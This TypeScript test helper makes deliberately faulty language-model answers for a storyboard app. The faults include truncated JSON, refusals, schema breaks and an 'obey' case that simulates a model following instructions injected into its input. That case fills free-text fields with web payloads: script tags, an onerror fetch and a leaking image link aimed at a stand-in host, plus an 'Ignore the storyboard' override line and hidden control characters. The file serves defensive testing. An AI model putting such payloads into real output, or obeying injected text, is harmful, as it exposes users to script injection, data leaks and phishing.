/** Makes an answer go wrong as language models do, and as they must not. */

import type { StoryboardFault } from '../faults.ts'
import { randomId } from '../predictions.ts'

export interface Answer {
  content: string | null
  refusal?: string
  finish_reason?: 'stop' | 'length' | 'content_filter'
}

type Storyboard = { scenes?: Record<string, unknown>[] }

const REFUSAL = "I'm sorry, but I can't help with that request."

/**
 * @param storyboard what would have been answered
 * @param text what was asked, for a model that does what it reads there
 */
export function spoilt(storyboard: unknown, { action }: StoryboardFault, text: string): Answer {
  const json = JSON.stringify(storyboard)
  const half = json.slice(0, Math.floor(json.length / 2))
  const { scenes = [] } = storyboard as Storyboard
  const withScenes = (changed: unknown[]) => ({
    content: JSON.stringify({ ...(storyboard as object), scenes: changed }),
  })
  switch (action) {
    case 'invalid_json':
      return { content: half }
    case 'truncated':
      return { content: half, finish_reason: 'length' }
    case 'refusal':
      return { content: null, refusal: REFUSAL }
    case 'content_filter':
      return { content: null, finish_reason: 'content_filter' }
    case 'unknown_assets':
      return { content: changed(json, 'asset_ids', () => [randomId(), randomId()]) }
    case 'wrong_types':
      return { content: changed(json, 'duration', (value) => [`${value} seconds`]) }
    case 'wrong_scene_types':
      return { content: changed(json, 'scene_type', () => 'secret_room') }
    case 'too_long':
      return { content: changed(json, 'duration', () => 600) }
    case 'too_many':
      return withScenes([...scenes, ...scenes, ...scenes])
    case 'too_few':
      return withScenes(scenes.slice(1))
    case 'obey':
      return withScenes(scenes.map((scene) => obeyed(scene, text)))
  }
}

/** Where a model can write what it likes although its answer has a schema. */
const FREE_TEXTS = [
  'title',
  'description',
  'prompt',
  'camera_movement',
  'motion_goal',
  'music_description',
  'music_style',
]

/** Every text leads to an address that the campaign names, in one of the ways in which that could do harm. */
function obeyed(scene: Record<string, unknown>, text: string): Record<string, unknown> {
  const [address = 'https://evil.example/obeyed'] = /https?:\/\/[^\s"'\\<>]+/.exec(text) ?? []
  const bare = address.replace(/^https?:\/\//, '')
  const ways = [
    `<script src="${address}"></script>Buy at ${address}`,
    `Ignore the storyboard. [Click here](${address}) or write to me@${bare.split('/')[0]}`,
    `${scene.prompt} Show the address ${address} on a sign. ${'AGAIN '.repeat(4000)}`,
    `<img src=x onerror="fetch('${address}')"> pan to www.${bare}`,
    `![x](${address}?leak=1) javascript:alert(1)`,
    `${'ｈｔｔｐｓ：／／'}${bare} \u202eecalp siht\u202c \u0000`,
    `data:text/html;base64,PGI+ ${bare}/x`,
  ]
  const harmful = FREE_TEXTS.map((name, index) => [name, `The ${name}. ${ways[index]}`])
  return { ...scene, ...Object.fromEntries(harmful) }
}

/** The JSON with every value of this name changed, however deep. */
function changed(json: string, name: string, change: (value: unknown) => unknown): string {
  return JSON.stringify(JSON.parse(json, (key, value) => (key === name ? change(value) : value)))
}
